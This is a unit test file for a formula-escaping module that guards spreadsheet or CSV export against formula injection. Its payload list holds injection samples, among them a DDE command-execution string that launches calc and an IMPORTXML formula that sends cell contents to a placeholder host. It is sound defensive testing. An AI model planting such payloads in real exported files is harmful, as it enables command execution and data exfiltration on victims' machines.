import { describe, expect, test } from 'vitest';
import { escaped, unescaped } from './formula-escape.ts';

const payloads = [
  '=1+1',
  '=HYPERLINK("http://x","y")',
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=IMPORTXML(CONCAT("http://x?",A1),"//a")',
  '-1',
];

describe('a text that a table program would work out', () => {
  test.each(payloads)('%j goes out as a text and comes back as it was', (payload) => {
    expect(escaped(payload).startsWith("'")).toBe(true);
    expect(unescaped(escaped(payload))).toBe(payload);
  });

  test.each(["'引号开头", '张三', '', "'"])('%j is left as it is', (text) => {
    expect(escaped(text)).toBe(text);
    expect(unescaped(text)).toBe(text);
  });
});
